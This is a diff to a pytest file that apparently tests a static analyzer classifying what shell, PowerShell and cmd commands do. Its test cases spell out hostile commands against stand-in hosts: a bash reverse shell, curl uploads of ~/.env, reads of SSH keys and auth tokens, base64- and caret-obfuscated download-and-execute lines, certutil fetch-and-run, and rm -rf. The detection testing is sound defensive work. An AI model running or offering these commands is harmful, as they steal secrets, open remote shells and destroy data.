@@ -2,11 +2,11 @@
 
 from __future__ import annotations
 
+import base64
 from collections.abc import Callable
 
 import pytest
 
-from analyzer.facts.programs import split_commands
 from analyzer.model import Fact, FactKind
 
 FactsOf = Callable[..., list[Fact]]
@@ -64,15 +64,78 @@ def test_an_unknown_program_is_a_fact(facts_of: FactsOf) -> None:
 
 
 @pytest.mark.parametrize(
-    ("text", "commands"),
+    ("command", "kind", "subject"),
     [
-        ("a b; c", [["a", "b"], ["c"]]),
-        ("a 'b c' && d", [["a", "b c"], ["d"]]),
-        ("X=1 a | b", [["a"], ["b"]]),
-        ("echo $(id)", [["echo"], ["id"]]),
-        ('a "unbalanced', [["a", '"unbalanced']]),
-        ("", []),
+        ("u=http://x.invalid; curl $u", FactKind.NET_CONNECT, "http://x.invalid"),
+        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", FactKind.NET_CONNECT, "192.0.2.1:443"),
+        ("nohup curl -T ~/.env http://x.invalid &", FactKind.FILE_READ, "~/.env"),
+        ("sudo -n rm -rf /opt/x", FactKind.FILE_DELETE, "/opt/x"),
+        ("date -s 2026-01-01", FactKind.CLOCK_SET, "clock"),
+        ("echo x >> ~/.bashrc", FactKind.FILE_WRITE, "~/.bashrc"),
+        ("for f in ~/.ssh/id_rsa x; do cat $f; done", FactKind.FILE_READ, "~/.ssh/id_rsa"),
+        (
+            "echo Y3VybCBodHRwOi8veC5pbnZhbGlk | base64 -d | sh",
+            FactKind.NET_CONNECT,
+            "http://x.invalid",
+        ),
+        ("gh auth token", FactKind.FILE_READ, "keyring"),
+        ("setsid wget http://x.invalid", FactKind.PROCESS_DETACH, "setsid"),
     ],
 )
-def test_shell_text_splits_into_commands(text: str, commands: list[list[str]]) -> None:
-    assert split_commands(text) == commands
+def test_shell_text_gives_what_it_does(
+    facts_of: FactsOf, command: str, kind: FactKind, subject: str
+) -> None:
+    code = (
+        f'fn main() {{ std::process::Command::new("sh").args(["-c", r#"{command}"#]).status(); }}'
+    )
+    assert subject in _of(facts_of(code), kind)
+
+
+@pytest.mark.parametrize(
+    ("text", "kind", "subject"),
+    [
+        ("iwr -Uri http://x.invalid -OutFile a.exe", FactKind.NET_CONNECT, "http://x.invalid"),
+        ("iwr -Uri http://x.invalid -OutFile a.exe", FactKind.FILE_WRITE, "a.exe"),
+        (
+            "(New-Object Net.WebClient).UploadFile('http://x.invalid', '.env')",
+            FactKind.FILE_READ,
+            ".env",
+        ),
+        ("Invoke-RestMethod -Method Post http://x.invalid", FactKind.NET_SEND, "http://x.invalid"),
+        ("gci env:", FactKind.ENV_READ_ALL, "*"),
+        ("I`E`X 'iwr http://x.invalid'", FactKind.NET_CONNECT, "http://x.invalid"),
+        ("$a='htt'+'p://x.invalid'; irm $a", FactKind.NET_CONNECT, "http://x.invalid"),
+        ("Set-Date 2026-01-01", FactKind.CLOCK_SET, "2026-01-01"),
+    ],
+)
+@pytest.mark.parametrize("is_encoded", [False, True])
+def test_powershell_text_gives_what_it_does(
+    facts_of: FactsOf, text: str, kind: FactKind, subject: str, *, is_encoded: bool
+) -> None:
+    given = base64.b64encode(text.encode("utf-16-le")).decode() if is_encoded else text
+    flag = "-EncodedCommand" if is_encoded else "-Command"
+    arguments = f'["-NoProfile", "-ExecutionPolicy", "Bypass", "{flag}", r#"{given}"#]'
+    code = (
+        f'fn main() {{ std::process::Command::new("powershell.exe").args({arguments}).status(); }}'
+    )
+    assert subject in _of(facts_of(code), kind)
+
+
+@pytest.mark.parametrize(
+    ("text", "kind", "subject"),
+    [
+        (
+            "certutil -urlcache -f http://x.invalid/a a.exe & start a.exe",
+            FactKind.PROCESS_SPAWN,
+            "a.exe",
+        ),
+        ("c^url http://x.invalid", FactKind.NET_CONNECT, "http://x.invalid"),
+        ('type "%USERPROFILE%\\.env" > out', FactKind.FILE_WRITE, "out"),
+        ("del /q C:\\x", FactKind.FILE_DELETE, "C:\\x"),
+    ],
+)
+def test_cmd_text_gives_what_it_does(
+    facts_of: FactsOf, text: str, kind: FactKind, subject: str
+) -> None:
+    code = f'fn main() {{ std::process::Command::new("cmd").arg("/C").arg(r#"{text}"#).status(); }}'
+    assert subject in _of(facts_of(code), kind)
